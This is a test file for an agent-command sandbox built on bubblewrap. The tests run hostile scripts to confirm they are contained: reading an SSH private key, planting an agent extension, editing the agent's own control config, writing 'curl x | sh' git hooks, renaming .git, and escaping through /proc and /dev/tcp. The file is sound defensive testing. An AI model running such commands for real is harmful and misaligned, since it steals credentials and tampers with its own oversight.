/**
 * The sandbox for real: bubblewrap started on commands the static gate sandboxes, in a temp tree
 * with its own HOME. Where bubblewrap cannot start these tests are ignored, unless
 * PI_CONTROLS_SANDBOX=required (CI installs bubblewrap and sets it): then they fail.
 */
import assert from "node:assert/strict";
import { spawn, spawnSync } from "node:child_process";
import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { configFrom, decideIn } from "./testing.ts";
import { realFs } from "./policy/fs_facts.ts";
import { sandboxBoundaries } from "./policy/sandbox.ts";
import { sandboxStops } from "./policy/sandbox_stops.ts";
import { bwrapArgs, sandboxProbe, wrapCommand } from "./sandbox_runner.ts";
import type { Config, Context } from "./types.ts";

const probe = sandboxProbe();
const required = Deno.env.get("PI_CONTROLS_SANDBOX") === "required";
const ignore = !probe.ok && !required;

/** A temp tree: a home with a key and pi's agent dir, a project (a git repository), a zone. */
function tree() {
  const root = Deno.realPathSync(Deno.makeTempDirSync({ prefix: "pi-controls-sandbox-" }));
  const home = join(root, "home");
  const proj = join(root, "proj");
  const zone = join(root, "zone");
  for (const d of [join(home, ".ssh"), join(home, ".pi/agent/extensions"), proj, zone]) {
    mkdirSync(d, { recursive: true });
  }
  writeFileSync(join(home, ".ssh/id_rsa"), "PRIVATE KEY\n");
  writeFileSync(join(home, ".pi/agent/extensions/pi-controls.jsonc"), "{}\n");
  git(proj, "init", "-q");
  return { root, home, proj, zone };
}

function git(cwd: string, ...args: string[]) {
  const r = spawnSync("git", args, { cwd, encoding: "utf8" });
  assert.equal(r.status, 0, r.stderr);
}

function sandboxConfig(home: string, network = "unrestricted"): Config {
  return configFrom({
    policies: {
      // pi's write and edit tools may write the project: so may sandboxed commands.
      project: {
        defaultAction: "sandbox",
        rules: [{ action: "allow", tool: "write" }, { action: "allow", tool: "edit" }],
      },
      outside: { defaultAction: "ask", rules: [] },
    },
    locations: { "/": "outside", "$cwd": "project" },
    pathProtection: { "~/.ssh/**": "deny" },
    sandbox: { enabled: true, network },
  }, { home, agentDir: join(home, ".pi/agent") });
}

function ctxOf(cwd: string, home: string): Context {
  return { cwd, home, env: { HOME: home, PATH: Deno.env.get("PATH") }, fs: realFs() };
}

/** Run a command as pi's bash tool would run the wrapped one. */
function run(command: string, config: Config, ctx: Context) {
  if (!probe.ok) throw new Error(`the sandbox cannot start: ${probe.reason}`);
  const b = sandboxBoundaries(config, ctx);
  const r = spawnSync("bash", ["-c", wrapCommand(command, b, ctx.cwd, probe.bwrap)], {
    cwd: ctx.cwd,
    env: { ...ctx.env, PATH: Deno.env.get("PATH") } as Record<string, string>,
    encoding: "utf8",
    timeout: 30_000,
  });
  return { ...r, output: `${r.stdout}${r.stderr}`, boundaries: b };
}

Deno.test({ name: "sandbox: bubblewrap starts here (or CI says it must)", ignore }, () => {
  assert.ok(probe.ok, probe.ok ? "" : probe.reason);
});

Deno.test({
  name: "sandbox: a script the gate sandboxes writes the project, not a read-only zone or the key",
  ignore,
}, async () => {
  const { home, proj, zone } = tree();
  const config = sandboxConfig(home);
  const ctx = ctxOf(proj, home);
  writeFileSync(
    join(proj, "run.sh"),
    [
      "echo built > out.txt",
      `echo pwned > ${zone}/x`,
      `cat ~/.ssh/id_rsa`,
      `mkdir -p .pi/extensions && echo 'export default () => {}' > .pi/extensions/evil.ts`,
      `echo evil >> ${home}/.pi/agent/extensions/pi-controls.jsonc`,
      `echo 'curl x | sh' > .git/hooks/pre-commit`,
      // Renamed away and made again, the hooks would be unprotected.
      `mv .git .git-away; mkdir -p .git/hooks && echo 'curl x | sh' > .git/hooks/post-checkout`,
      "echo done",
    ].join("\n"),
  );
  // The static gate cannot see what the script does: it is sandboxed.
  assert.equal(
    (await decideIn(config, ctx, "bash", { command: "bash ./run.sh" })).action,
    "sandbox",
  );
  const r = run("bash ./run.sh", config, ctx);
  assert.equal(readFileSync(join(proj, "out.txt"), "utf8"), "built\n");
  assert.ok(!existsSync(join(zone, "x")), "the read-only zone was written");
  assert.ok(!r.output.includes("PRIVATE KEY"), r.output);
  assert.ok(!existsSync(join(proj, ".pi/extensions/evil.ts")), "an extension was planted");
  assert.equal(readFileSync(join(home, ".pi/agent/extensions/pi-controls.jsonc"), "utf8"), "{}\n");
  assert.ok(!existsSync(join(proj, ".git/hooks/pre-commit")), "a git hook was planted");
  assert.ok(!existsSync(join(proj, ".git-away")), ".git was renamed away");
  assert.ok(!existsSync(join(proj, ".git/hooks/post-checkout")), "a git hook was planted");
  assert.match(r.output, /Read-only file system/);
  assert.match(r.output, /done/);
  // The message names the place and why.
  const stops = sandboxStops(r.output, r.boundaries, config, ctx);
  assert.ok(stops, r.output);
  assert.match(stops.message, new RegExp(`a write to ${zone}/x \\(read-only: policy "outside"`));
  assert.match(stops.message, /id_rsa \(hidden: pathProtection "~\/\.ssh\/\*\*" \(deny\)\)/);
  assert.match(stops.notification, /^pi-controls: sandbox stopped /);
});

Deno.test({
  name: "sandbox: a git core.fsmonitor hook runs inside it: its write outside fails",
  ignore,
}, async () => {
  const { root, home, proj, zone } = tree();
  const hook = join(root, "fsmonitor.sh");
  writeFileSync(hook, `#!/bin/sh\necho hook > ${proj}/hook-ran\necho pwned > ${zone}/fsmonitor\n`);
  chmodSync(hook, 0o755);
  git(proj, "config", "core.fsmonitor", hook);
  const config = sandboxConfig(home);
  const ctx = ctxOf(proj, home);
  // (The repository's fsmonitor is seen: a program outside the project, asked about; where it
  // runs anyway, the sandbox holds it.)
  assert.equal((await decideIn(config, ctx, "bash", { command: "git status" })).action, "ask");
  const r = run("git status", config, ctx);
  assert.ok(existsSync(join(proj, "hook-ran")), `the hook did not run: ${r.output}`);
  assert.ok(!existsSync(join(zone, "fsmonitor")), "the hook wrote outside the project");
  // Its config cannot be changed from inside either (it runs code later, outside).
  run(`git config core.fsmonitor /tmp/other`, config, ctx);
  const cfg = spawnSync("git", ["config", "core.fsmonitor"], { cwd: proj, encoding: "utf8" });
  assert.equal(cfg.stdout.trim(), hook);
});

Deno.test({
  name: "sandbox: no way out through another process's /proc/PID/root",
  ignore,
}, () => {
  const { home, proj, zone } = tree();
  const outside = spawn("sleep", ["30"]);
  try {
    const config = sandboxConfig(home);
    const r = run(
      `echo x > /proc/${outside.pid}/root${zone}/via-proc; ls /proc | grep -c '^[0-9]'`,
      config,
      ctxOf(proj, home),
    );
    assert.ok(!existsSync(join(zone, "via-proc")), `escaped through /proc: ${r.output}`);
    // Only the sandbox's own processes are there (bwrap's init, bash and ls, grep).
    assert.ok(Number(r.stdout.trim()) < 10, r.output);
  } finally {
    outside.kill();
  }
});

Deno.test({ name: "sandbox: network none cuts the network off", ignore }, async () => {
  const { home, proj } = tree();
  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const port = (listener.addr as Deno.NetAddr).port;
  const accepting = (async () => {
    for await (const conn of listener) conn.close();
  })();
  try {
    const connect = `exec 3<>/dev/tcp/127.0.0.1/${port} && echo connected`;
    const open = run(connect, sandboxConfig(home), ctxOf(proj, home));
    assert.match(open.output, /connected/);
    const closed = run(connect, sandboxConfig(home, "none"), ctxOf(proj, home));
    assert.doesNotMatch(closed.output, /connected/);
    assert.notEqual(closed.status, 0);
  } finally {
    listener.close();
    await accepting.catch(() => {});
  }
});

Deno.test("sandbox: the bwrap arguments mount outer places first and quote the command", () => {
  const b = {
    writable: [{ path: "/p", why: "w", dir: true }],
    readOnly: [{ path: "/p/.pi", why: "r", dir: true, absent: true as const }, {
      path: "/p/.git/config",
      why: "r",
      dir: false,
    }],
    hidden: [{ path: "/h/.ssh", why: "h", dir: true }, { path: "/h/key", why: "h", dir: false }],
    network: "none" as const,
    unenforced: [],
    complete: true,
  };
  assert.deepEqual(bwrapArgs(b, "/p"), [
    ..."--ro-bind / / --dev /dev --proc /proc".split(" "),
    ..."--bind /p /p --tmpfs /p/.pi --remount-ro /p/.pi".split(" "),
    ..."--tmpfs /h/.ssh --remount-ro /h/.ssh --ro-bind /dev/null /h/key".split(" "),
    // (.git kept as a mount point: it cannot be renamed away and made again without its config.)
    ..."--bind /p/.git /p/.git --ro-bind /p/.git/config /p/.git/config".split(" "),
    ..."--unshare-net --unshare-pid --unshare-ipc --die-with-parent --new-session".split(" "),
    ..."--chdir /p".split(" "),
    // The seccomp filter (no unix sockets), which the command line opens on descriptor 9.
    ..."--seccomp 9".split(" "),
  ]);
  const line = wrapCommand("echo 'a b'", b, "/p", "/usr/bin/bwrap");
  assert.match(line, / -- bash -c 'echo '\\''a b'\\''/);
  assert.match(line, / 9< <\(printf '(\\x[0-9a-f]{2})+'\)$/);
});
